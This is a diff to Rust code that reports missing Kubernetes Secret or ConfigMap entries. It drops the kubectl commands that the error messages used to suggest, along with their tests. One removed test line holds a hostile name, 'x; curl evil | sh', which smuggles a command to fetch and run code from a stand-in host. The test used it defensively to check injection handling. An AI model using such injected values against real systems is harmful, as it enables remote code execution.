@@ -68,13 +68,12 @@ impl<'a> ValueSource<'a> {
     /// The value, out of what lies in its object.
     fn pick(
         &self,
-        namespace: &str,
         entries: &Result<Option<Entries>, Arc<Failure>>,
         most: usize,
     ) -> Result<Vec<u8>, ValueError> {
         let entries = match entries {
             Ok(Some(entries)) => entries,
-            Ok(None) => return Err(self.no_object(namespace)),
+            Ok(None) => return Err(self.no_object()),
             Err(failure) => {
                 return Err(ValueError::Unreadable {
                     kind: self.kind(),
@@ -84,7 +83,7 @@ impl<'a> ValueSource<'a> {
             }
         };
         match entries.get(&self.selector().key) {
-            None => Err(self.no_entry(namespace)),
+            None => Err(self.no_entry()),
             Some(value) if value.len() > most => Err(ValueError::TooLong {
                 place: self.to_string(),
                 bytes: value.len(),
@@ -94,45 +93,21 @@ impl<'a> ValueSource<'a> {
         }
     }
 
-    fn no_object(&self, namespace: &str) -> ValueError {
+    fn no_object(&self) -> ValueError {
         let KeySelector { name, key } = self.selector();
-        let what = match self {
-            Self::Secret(_) => "secret generic",
-            Self::ConfigMap(_) => "configmap",
-        };
-        let command = format!("create {what} {name} -n {namespace} --from-file={key}=FILE");
         ValueError::NoObject {
             kind: self.kind(),
             name: name.clone(),
-            command: self.by_command(&command),
+            key: key.clone(),
         }
     }
 
-    fn no_entry(&self, namespace: &str) -> ValueError {
+    fn no_entry(&self) -> ValueError {
         let KeySelector { name, key } = self.selector();
-        let (what, made) = match self {
-            Self::Secret(_) => ("secret", "secret generic"),
-            Self::ConfigMap(_) => ("configmap", "configmap"),
-        };
-        let command = format!(
-            "create {made} {name} -n {namespace} --from-file={key}=FILE --dry-run=client -o yaml | kubectl patch {what} {name} -n {namespace} --type=merge --patch-file=/dev/stdin"
-        );
         ValueError::NoEntry {
             kind: self.kind(),
             name: name.clone(),
             key: key.clone(),
-            command: self.by_command(&command),
-        }
-    }
-
-    /// A command that takes the value from a file. None for names that no object has, which may mean anything in a
-    /// shell.
-    fn by_command(&self, command: &str) -> String {
-        let KeySelector { name, key } = self.selector();
-        let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._".contains(c);
-        match is_object_name(name) && key.chars().all(is_plain) {
-            true => format!(", with the value from FILE: kubectl {command}"),
-            false => String::new(),
         }
     }
 }
@@ -141,17 +116,17 @@ impl<'a> ValueSource<'a> {
 #[derive(Debug, thiserror::Error)]
 pub enum ValueError {
     /// There is no such object.
-    #[error("{kind} {name} does not exist; create it{command}")]
+    #[error("{kind} {name} does not exist; create it with the key {key:?}")]
     NoObject {
         /// Secret or ConfigMap.
         kind: &'static str,
         /// Its name.
         name: String,
-        /// How, behind what was said; empty for a name that no command may hold.
-        command: String,
+        /// The key that is wanted in it.
+        key: String,
     },
     /// The object has no such entry.
-    #[error("{kind} {name} has no entry {key:?}; add it{command}")]
+    #[error("{kind} {name} has no key {key:?}; add it")]
     NoEntry {
         /// Secret or ConfigMap.
         kind: &'static str,
@@ -159,8 +134,6 @@ pub enum ValueError {
         name: String,
         /// The entry.
         key: String,
-        /// How, as above.
-        command: String,
     },
     /// The API server did not give it.
     #[error("{kind} {name} cannot be read now")]
@@ -201,7 +174,7 @@ impl Process {
             let entries = self.entries(namespace, *object).await.map_err(Arc::new);
             for (value, (source, most)) in values.iter_mut().zip(wanted) {
                 if source.is_beside(object) {
-                    *value = Some(source.pick(namespace, &entries, *most));
+                    *value = Some(source.pick(&entries, *most));
                 }
             }
         }
@@ -259,23 +232,19 @@ mod tests {
     use serde_json::json;
 
     #[test]
-    fn what_is_missing_is_made_by_one_command() {
-        let at = |name: &str| KeySelector {
-            name: name.into(),
+    fn what_is_missing_is_named() {
+        let map = KeySelector {
+            name: "keys".into(),
             key: "id.pub".into(),
         };
-        let map = at("keys");
         assert_eq!(
-            ValueSource::ConfigMap(&map).no_object("shop").to_string(),
-            "ConfigMap keys does not exist; create it, with the value from FILE: kubectl create configmap keys -n shop --from-file=id.pub=FILE"
+            ValueSource::ConfigMap(&map).no_object().to_string(),
+            r#"ConfigMap keys does not exist; create it with the key "id.pub""#
         );
         assert_eq!(
-            ValueSource::Secret(&map).no_entry("shop").to_string(),
-            r#"Secret keys has no entry "id.pub"; add it, with the value from FILE: kubectl create secret generic keys -n shop --from-file=id.pub=FILE --dry-run=client -o yaml | kubectl patch secret keys -n shop --type=merge --patch-file=/dev/stdin"#
+            ValueSource::Secret(&map).no_entry().to_string(),
+            r#"Secret keys has no key "id.pub"; add it"#
         );
-        let hostile = at("x; curl evil | sh");
-        let text = ValueSource::Secret(&hostile).no_object("shop").to_string();
-        assert!(!text.contains("kubectl"), "{text}");
     }
 
     #[tokio::test]
